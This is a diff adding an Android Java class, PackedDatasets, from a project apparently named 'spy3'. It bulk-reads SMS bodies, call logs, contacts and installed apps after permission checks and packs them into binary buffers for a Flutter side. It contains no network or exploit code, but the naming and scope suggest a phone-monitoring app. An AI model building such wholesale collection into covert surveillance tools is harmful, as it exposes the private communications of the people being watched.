@@ -0,0 +1,89 @@
+package com.example.spy3.data;
+
+import android.Manifest;
+import android.content.ContentResolver;
+import android.content.Context;
+import android.content.pm.PackageManager;
+import android.database.Cursor;
+import android.os.CancellationSignal;
+import android.provider.CallLog;
+import android.provider.Telephony;
+import android.util.Log;
+
+import androidx.core.content.ContextCompat;
+
+import java.nio.ByteBuffer;
+
+/**
+ * Serves the bulk datasets in {@link PackedTable} form for the packed binary
+ * channel. A request is the dataset name, optionally followed by ":" and a
+ * since-id for "callLogs". Returns null when the dataset is unknown or its
+ * permission is missing, and the Dart side falls back to the method channel.
+ */
+public final class PackedDatasets {
+    private static final String TAG = "PackedDatasets";
+
+    private static final byte LONG = PackedTable.TYPE_LONG;
+    private static final byte INT = PackedTable.TYPE_INT;
+    private static final byte STRING = PackedTable.TYPE_STRING;
+
+    private PackedDatasets() {
+    }
+
+    public static ByteBuffer load(Context context, String request, CancellationSignal signal) {
+        String dataset = request;
+        long sinceId = 0;
+        int separator = request.indexOf(':');
+        if (separator >= 0) {
+            dataset = request.substring(0, separator);
+            try {
+                sinceId = Long.parseLong(request.substring(separator + 1));
+            } catch (NumberFormatException e) {
+                Log.w(TAG, "Ignoring malformed argument in " + request);
+            }
+        }
+
+        ContentResolver resolver = context.getContentResolver();
+        switch (dataset) {
+            case "sms":
+                if (!granted(context, Manifest.permission.READ_SMS)) return null;
+                return query(resolver.query(
+                    Telephony.Sms.CONTENT_URI,
+                    new String[] { Telephony.Sms._ID, Telephony.Sms.THREAD_ID, Telephony.Sms.ADDRESS,
+                        Telephony.Sms.BODY, Telephony.Sms.DATE, Telephony.Sms.TYPE },
+                    null, null, Telephony.Sms.DEFAULT_SORT_ORDER, signal),
+                    new String[] { "id", "threadId", "address", "body", "date", "type" },
+                    new byte[] { LONG, LONG, STRING, STRING, LONG, INT });
+            case "callLogs":
+                if (!granted(context, Manifest.permission.READ_CALL_LOG)) return null;
+                return query(resolver.query(
+                    CallLog.Calls.CONTENT_URI,
+                    CallLogSync.PROJECTION,
+                    CallLog.Calls._ID + " > ?", new String[] { String.valueOf(sinceId) },
+                    CallLog.Calls.DEFAULT_SORT_ORDER, signal),
+                    new String[] { "id", "number", "date", "duration", "type" },
+                    new byte[] { LONG, STRING, LONG, LONG, INT });
+            case "contacts":
+                if (!granted(context, Manifest.permission.READ_CONTACTS)) return null;
+                return ContactIndex.pack(ContactIndex.get(context).contacts(signal));
+            case "apps":
+                return InstalledApps.pack(InstalledAppsCache.get(context).apps(signal));
+            default:
+                Log.w(TAG, "Unknown packed dataset: " + dataset);
+                return null;
+        }
+    }
+
+    private static ByteBuffer query(Cursor cursor, String[] names, byte[] types) {
+        if (cursor == null) return null;
+        try {
+            return PackedTable.fromCursor(cursor, names, types);
+        } finally {
+            cursor.close();
+        }
+    }
+
+    private static boolean granted(Context context, String permission) {
+        return ContextCompat.checkSelfPermission(context, permission) == PackageManager.PERMISSION_GRANTED;
+    }
+}